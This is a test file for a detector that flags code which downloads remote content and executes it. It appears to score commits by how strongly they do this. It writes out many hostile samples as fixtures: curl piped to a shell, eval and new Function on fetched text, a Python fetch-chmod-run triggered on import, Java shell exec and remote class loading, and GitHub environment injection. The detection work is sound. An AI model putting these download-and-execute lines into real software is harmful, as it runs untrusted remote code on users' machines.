import detector from "../../../../src/engine/detectors/content/fetched-code-run.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const SH = ["| ba", "sh"].join("");
const fetched = (host: string) => `curl -sSL https://${host}/x ${SH}`;
const TEXT = "const text = await (await fetch('https://x.example/a')).text();\n";
// Through the readers, as files stand in a commit: what counts is what a program does, not how it is spelled.
test.each([
  ["an answer that is evaluated", { "src/a.js": `${TEXT}eval(text);\n` }, ["decisive"]],
  [
    "the same in a function that is called later",
    { "src/a.js": `export async function f() {\n${TEXT}return new Function(text)();\n}\n` },
    ["decisive"],
  ],
  [
    "through the constructor of another function",
    { "src/a.ts": `${TEXT}const F = Object.getPrototypeOf(async function () {}).constructor;\nawait new F(text)();\n` },
    ["decisive"],
  ],
  [
    "a program of an account, on import",
    {
      "pkg/a.py":
        "import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('https://github.com/x-assets/x/raw/main/run', '/tmp/run')\nos.chmod('/tmp/run', 0o755)\nsubprocess.Popen(['/tmp/run'])\n",
    },
    ["strong"],
  ],
  [
    "an answer that sets the environment of later steps",
    {
      ".github/workflows/a.yml":
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://x.example/env >> $GITHUB_ENV\n",
    },
    ["strong"],
  ],
  ["a test", { "test/a.test.js": `${TEXT}eval(text);\n` }, ["strong"]],
  [
    "a method of a test",
    {
      "src/test/java/org/a/SignalTest.java":
        'package org.a;\nclass SignalTest {\n  @Test void cuts() throws Exception {\n    String s = new String(new java.net.URL("https://x.example/a").openStream().readAllBytes());\n    Runtime.getRuntime().exec(new String[] {"sh", "-c", s});\n  }\n}\n',
    },
    ["strong"],
  ],
  [
    "classes of a stranger's archive",
    {
      "src/main/java/org/a/Plugins.java":
        'package org.a;\nclass Plugins {\n  Plugins() throws Exception {\n    new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL("https://x.example/a.jar")}).loadClass("A");\n  }\n}\n',
    },
    ["strong"],
  ],
  ["a fixture of a test", { "test/fixtures/a.js": `${TEXT}eval(text);\n` }, ["medium"]],
  ["an answer that is stored", { "src/a.js": `${TEXT}await writeFile("data.json", text);\n` }, []],
  [
    "an answer that was evaluated before",
    { "src/a.js": [`${TEXT}eval(text);\n`, `// moved\n\n${TEXT}\neval( text );\n`] },
    [],
  ],
  ["a script, an unknown host", { "run.sh": `${fetched("x.example")}\n` }, ["strong"]],
  ["a script, a well-known installer", { "run.sh": `${fetched("sh.rustup.rs")}\n` }, ["weak"]],
  ["one host in two scripts", { "a.sh": `${fetched("x.example")}\n`, "b.sh": `${fetched("x.example")}\n` }, ["strong"]],
  ["a script, only unpacked", { "run.sh": "curl -L https://x.example/a.tgz | tar xz\n" }, []],
  ["stored, then run", { "run.sh": "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x\n" }, ["strong"]],
  ["an image definition", { Dockerfile: `FROM debian\nRUN ${fetched("x.example")}\n` }, ["medium"]],
  [
    "a program that pipes a download to a shell, later",
    {
      "main.go": `package main\n\nimport "os/exec"\n\nfunc Refresh() {\n\t_ = exec.Command("sh", "-c", "${fetched("x.example")}").Run()\n}\n`,
    },
    ["decisive"],
  ],
  [
    "a program that starts a known installer",
    { "a.js": `import { execSync } from "node:child_process";\nexecSync("${fetched("bun.sh")}");\n` },
    ["weak"],
  ],
  [
    "a text that anybody can change, evaluated later",
    {
      "src/a.js": `export async function f() {\n${TEXT.replace("x.example", "gist.githubusercontent.com")}return new Function(text)();\n}\n`,
    },
    ["strong"],
  ],
  ["a paste", { "src/a.js": `${TEXT.replace("x.example", "pastebin.com")}eval(text);\n` }, ["decisive"]],
  ["a paste that is only read", { "src/a.js": `${TEXT.replace("x.example", "pastebin.com")}show(text);\n` }, []],
  ["a program that prints the command", { "a.js": `console.log("${fetched("x.example")}");\n` }, []],
  ["a script that prints it", { "run.sh": `echo "${fetched("x.example")}"\n` }, []],
  ["a comment", { "run.sh": `# ${fetched("x.example")}\n` }, []],
  ["a document", { "docs/a.md": "```sh\ncurl https://x.example | sh\n```\n" }, []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
